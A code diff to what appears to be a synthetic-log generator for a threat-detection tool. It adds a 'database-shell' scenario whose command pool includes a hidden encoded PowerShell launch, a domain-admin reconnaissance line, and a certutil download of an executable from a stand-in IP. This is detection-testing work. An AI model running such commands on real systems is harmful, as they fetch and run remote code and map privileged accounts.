@@ -1,10 +1,11 @@
 import { DAY, HOUR, MINUTE } from '@scout/detection/time';
 import { DAYS } from './calendar.ts';
 import type { Draw } from './draw.ts';
-import type { Stage } from './life.ts';
+import type { Host } from './host.ts';
+import { type Stage, startShell } from './life.ts';
 import type { Session } from './people.ts';
-import type { Origin } from './rows.ts';
-import type { Account, Host, Life } from './world.ts';
+import { type BankRow, createRows, type Origin } from './rows.ts';
+import type { Account, Life } from './world.ts';
 
 const SECOND = 1_000;
 const SQLCMD = 'C:\\Program Files\\Microsoft SQL Server\\160\\Tools\\Binn\\SQLCMD.EXE';
@@ -264,6 +265,23 @@ const KINDS = {
       );
     return { person: person.name };
   },
+  'database-shell': (telling) => {
+    const { account, time, plot, draw } = telling;
+    const command = draw.pick([
+      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
+      'whoami /priv & net group "domain admins" /domain',
+      'certutil -urlcache -f http://203.0.113.7/a.exe C:\\Windows\\Temp\\a.exe',
+    ]);
+    for (let i = draw.between(1, 2); i > 0; i -= 1)
+      startShell(telling, account, account.sources[0]!, time + i * 4 * MINUTE, command, plot.story);
+    return { person: null };
+  },
+  /** The usual way at the usual hour, without the job that always came with it. */
+  'without-its-job': (telling) => {
+    const { calendar, account, day, draw } = telling;
+    const time = calendar.at(account.app.zone, day, account.minute) + draw.between(-20, 20) * MINUTE;
+    return reach({ ...telling, time }, account.sources[0]!, account.destinations[0]!, draw.between(1, 3));
+  },
 } as const satisfies Record<string, (telling: Telling) => Told>;
 export type Kind = keyof typeof KINDS;
 
@@ -285,6 +303,8 @@ const WITHOUT_PASSWORD: ReadonlySet<Kind> = new Set([
   'test-in-production',
   'lateral-movement',
   'workstations-reached',
+  'database-shell',
+  'without-its-job',
 ]);
 const REGULAR: readonly Life[] = ['poller', 'nightly', 'service', 'daytime', 'weekly'];
 
@@ -301,18 +321,39 @@ export function planStories(draw: Draw, each: number): Plot[] {
   return plots;
 }
 
-/** Generates a story; false if nobody suitable is present, so that it waits for the next day. */
-export function tell(stage: Stage, plot: Plot, day: number, sessions: readonly Session[]): boolean {
+/** Attempts of one day to find an account, a person and machines whose events are collected. */
+const ATTEMPTS = 12;
+
+/**
+ * Tells a story with somebody present.
+ *
+ * @returns its rows, and the ordinary ones around them; empty if no event of it is collected, so that it waits for the next day
+ */
+export function tell(
+  stage: Omit<Stage, 'rows'>,
+  plot: Plot,
+  day: number,
+  sessions: readonly Session[],
+  isWithin: (time: number) => boolean,
+): BankRow[] {
   const { world, draw } = stage;
   const wantsAdmin = BY_ADMINS.has(plot.kind);
   const candidates = sessions.filter(({ person }) => person.isAdmin === wantsAdmin);
-  if (candidates.length === 0) return false;
-  const session = draw.pick(candidates);
-  const account = draw.pick(world.accounts.filter((one) => fits(one, plot.kind, day)));
-  const time = draw.between(session.from + 20 * MINUTE, session.until - 90 * MINUTE);
-  plot.account = account;
-  plot.person = KINDS[plot.kind]({ ...stage, plot, account, session, day, time }).person;
-  return true;
+  const accounts = world.accounts.filter((one) => fits(one, plot.kind, day));
+  if (candidates.length === 0 || accounts.length === 0) return [];
+  for (let attempt = 0; attempt < ATTEMPTS; attempt += 1) {
+    const written: BankRow[] = [];
+    const rows = createRows(world, draw, (row) => written.push(row));
+    const session = draw.pick(candidates);
+    const account = draw.pick(accounts);
+    const time = draw.between(session.from + 20 * MINUTE, session.until - 90 * MINUTE);
+    const { person } = KINDS[plot.kind]({ ...stage, rows, plot, account, session, day, time });
+    if (!written.some((row) => row.story === plot.story && isWithin(row.time))) continue;
+    plot.account = account;
+    plot.person = person;
+    return written;
+  }
+  return [];
 }
 
 function fits(account: Account, kind: Kind, day: number): boolean {
@@ -321,6 +362,8 @@ function fits(account: Account, kind: Kind, day: number): boolean {
   if (account.managed && !WITHOUT_PASSWORD.has(kind)) return false;
   if (kind === 'dormant-wakes') return account.life === 'dormant';
   if (kind === 'test-in-production') return account.env === 'test' && REGULAR.includes(account.life);
+  if (kind === 'database-shell') return account.life === 'engine' && !account.usesShell;
+  if (kind === 'without-its-job') return account.life === 'nightly' && account.env === 'prod';
   if (kind === 'odd-hour') return account.life === 'nightly' || account.life === 'weekly';
   return account.env === 'prod' && REGULAR.includes(account.life);
 }
